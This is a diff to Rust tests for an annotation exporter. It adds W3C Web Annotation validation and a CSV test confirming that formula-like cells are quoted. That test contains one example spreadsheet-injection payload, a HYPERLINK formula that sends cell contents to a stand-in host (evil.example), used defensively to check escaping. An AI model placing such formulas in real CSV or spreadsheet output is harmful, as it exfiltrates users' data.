@@ -12,10 +12,16 @@ use gloss::core::export::{self, Format, Material, Options, Scope};
 use gloss::core::import::{self, Batch, Report};
 use serde_json::Value;
 
+/// The material of the workspace's corpus, its documents named under a fixed base IRI so that
+/// golden files do not depend on the temporary folder.
 fn material(ws: &common::Workspace) -> Material {
     let corpus = Corpus::open(&ws.corpus(), None).unwrap();
-    Material::collect(&corpus, &Scope::default()).unwrap()
+    let mut m = Material::collect(&corpus, &Scope::default()).unwrap();
+    m.base = BASE.into();
+    m
 }
+
+const BASE: &str = "https://example.org/corpus/";
 
 fn exported(format: Format, options: Options) -> Vec<u8> {
     let ws = common::Workspace::new(true);
@@ -139,7 +145,8 @@ fn json_has_the_w3c_fields_and_its_selectors_match_the_text() {
         assert_eq!(item["created"], "2026-11-23T10:00:00Z");
         assert_eq!(item["modified"], "2026-11-23T10:00:00Z");
         let target = &item["target"];
-        let text = shipped_text(target["source"].as_str().unwrap());
+        let source = target["source"].as_str().unwrap();
+        let text = shipped_text(source.strip_prefix(BASE).unwrap());
         let selectors = target["selector"].as_array().unwrap();
         let quote = selectors
             .iter()
@@ -213,15 +220,11 @@ fn brat_spans_slice_the_txt_beside_them() {
     assert!(ann.contains("#1\tAnnotatorNotes T5\tQuoted from the Cyberspace"));
 }
 
-/// The unzipped project: `project.qde` and the sources it names.
-fn unzip(bytes: &[u8], into: &Path) {
-    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
-    zip.extract(into).unwrap();
-}
-
-fn schema() -> Option<PathBuf> {
+/// `../shared/schemas/<name>`, which CI has beside the repository; `None` elsewhere.
+fn shared_schema(name: &str) -> Option<PathBuf> {
     let path = Path::new(env!("CARGO_MANIFEST_DIR"))
-        .join("../shared/schemas/refi-qda-Project-mrt2019.xsd");
+        .join("../shared/schemas")
+        .join(name);
     if path.exists() {
         return Some(path);
     }
@@ -233,9 +236,93 @@ fn schema() -> Option<PathBuf> {
     None
 }
 
+/// Runs the W3C Web Annotation test suite's MUST assertions on a JSON export, through
+/// `tests/support/w3c_musts.py` (Python jsonschema with its URI and date-time format checks,
+/// which `.ci/run` installs); panics with the failed assertions.
+fn assert_meets_w3c_musts(export: &[u8]) {
+    let Some(suite) = shared_schema("w3c-web-annotation-tests") else {
+        println!("skipped: the W3C test suite (../shared/schemas) is not beside the repository");
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("export.jsonld");
+    std::fs::write(&file, export).unwrap();
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/w3c_musts.py");
+    let out = std::process::Command::new("python3")
+        .arg(script)
+        .arg(&suite)
+        .arg(&file)
+        .output()
+        .expect("python3 runs");
+    let report = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{report}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(report.ends_with(" 0 failed\n"), "{report}");
+}
+
+#[test]
+fn json_meets_every_must_assertion_of_the_w3c_test_suite() {
+    let ws = common::Workspace::new(true);
+    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
+    // The default base: the corpus folder's file:// URL.
+    let mut m = Material::collect(&corpus, &Scope::default()).unwrap();
+    assert!(m.base.starts_with("file:///") && m.base.ends_with("/corpus/"));
+    let mut out = Vec::new();
+    export::write(Format::Json, &m, Options::default(), &mut out).unwrap();
+    assert_meets_w3c_musts(&out);
+    // Paths and ids that are not URIs as they are: they are percent-encoded.
+    m.base = export::json::base_iri("https://example.org/claims").unwrap();
+    m.docs[0].rel_path = "press cuttings/Chine été #1.txt".into();
+    m.docs[0].annotations[0].id = "my note 1".into();
+    let mut out = Vec::new();
+    export::write(Format::Json, &m, Options::default(), &mut out).unwrap();
+    let written = text(out.clone());
+    assert!(
+        written.contains(
+            "\"https://example.org/claims/press%20cuttings/Chine%20%C3%A9t%C3%A9%20%231.txt\""
+        ),
+        "{written}"
+    );
+    assert!(written.contains("\"urn:x-gloss:annotation:my%20note%201\""));
+    assert_meets_w3c_musts(&out);
+    // ... and read back as they were.
+    let batch = export::json::read(&out).unwrap();
+    assert_eq!(batch.annotations[0].id.as_deref(), Some("my note 1"));
+    assert!(
+        batch.annotations[0]
+            .document
+            .ends_with("/press cuttings/Chine été #1.txt")
+    );
+    // A relative source fails the suite, so the check above can fail.
+    let relative = written.replace("https://example.org/claims/", "");
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("relative.jsonld");
+    std::fs::write(&file, relative).unwrap();
+    if let Some(suite) = shared_schema("w3c-web-annotation-tests") {
+        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/w3c_musts.py");
+        let out = std::process::Command::new("python3")
+            .arg(script)
+            .arg(&suite)
+            .arg(&file)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(1));
+        assert!(String::from_utf8_lossy(&out.stdout).contains("3.2-targetObjectsRecognized"));
+    }
+}
+
+/// The unzipped project: `project.qde` and the sources it names.
+fn unzip(bytes: &[u8], into: &Path) {
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    zip.extract(into).unwrap();
+}
+
 #[test]
 fn qdpx_unzips_to_a_project_valid_against_the_refi_qda_schema_with_its_sources() {
-    let Some(schema) = schema() else {
+    let Some(schema) = shared_schema("refi-qda-Project-mrt2019.xsd") else {
         println!("skipped: the REFI-QDA schema (../shared/schemas) is not beside the repository");
         return;
     };
@@ -279,6 +366,7 @@ fn qdpx_crlf_positions_count_line_breaks_twice() {
         &m,
         Options {
             crlf_positions: true,
+            ..Options::default()
         },
     );
     let doc = m
@@ -357,11 +445,73 @@ fn csv_round_trip_is_byte_for_byte() {
 }
 
 #[test]
+fn csv_cells_that_spreadsheets_would_run_as_formulas_are_quoted_and_read_back_exactly() {
+    let ws = common::Workspace::new(true);
+    let mut m = material(&ws);
+    let link = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")";
+    let notes = [
+        link,
+        "+1 for this",
+        "-",
+        "@me",
+        "\tindented",
+        "'=kept",
+        "plain",
+    ];
+    for (a, note) in m
+        .docs
+        .iter_mut()
+        .flat_map(|d| d.annotations.iter_mut())
+        .zip(notes)
+    {
+        a.note = note.into();
+    }
+    m.docs[0].annotations[0].annotator = "@annotator".into();
+    let cells = |options: Options| -> Vec<(String, String)> {
+        let mut out = Vec::new();
+        export::write(Format::Csv, &m, options, &mut out).unwrap();
+        let mut reader = csv::Reader::from_reader(&out[3..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        rows.iter()
+            .map(|r| (r[7].to_owned(), r[8].to_owned()))
+            .collect()
+    };
+    let guarded = cells(Options::default());
+    assert_eq!(guarded[0], (format!("'{link}"), "'@annotator".into()));
+    let written: Vec<&str> = guarded.iter().map(|(note, _)| note.as_str()).collect();
+    assert!(written.contains(&"'+1 for this") && written.contains(&"''=kept"));
+    assert!(written.contains(&"'\tindented") && written.contains(&"plain"));
+    // No cell a spreadsheet reads starts like a formula.
+    assert!(
+        guarded
+            .iter()
+            .all(|(n, a)| !n.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                && !a.starts_with(['=', '+', '-', '@']))
+    );
+    let raw = cells(Options {
+        raw_cells: true,
+        ..Options::default()
+    });
+    assert_eq!(raw[0], (link.to_owned(), "@annotator".into()));
+    // Reading takes every guarded cell back as it was.
+    let mut out = Vec::new();
+    export::write(Format::Csv, &m, Options::default(), &mut out).unwrap();
+    let batch = export::csv::read(&out).unwrap();
+    let read: Vec<&str> = batch.annotations.iter().map(|a| a.note.as_str()).collect();
+    assert_eq!(read, notes);
+    assert_eq!(
+        batch.annotations[0].annotator.as_deref(),
+        Some("@annotator")
+    );
+}
+
+#[test]
 fn qdpx_round_trip_is_byte_for_byte_with_either_way_of_counting() {
     for options in [
         Options::default(),
         Options {
             crlf_positions: true,
+            ..Options::default()
         },
     ] {
         let ws = common::Workspace::new(false);
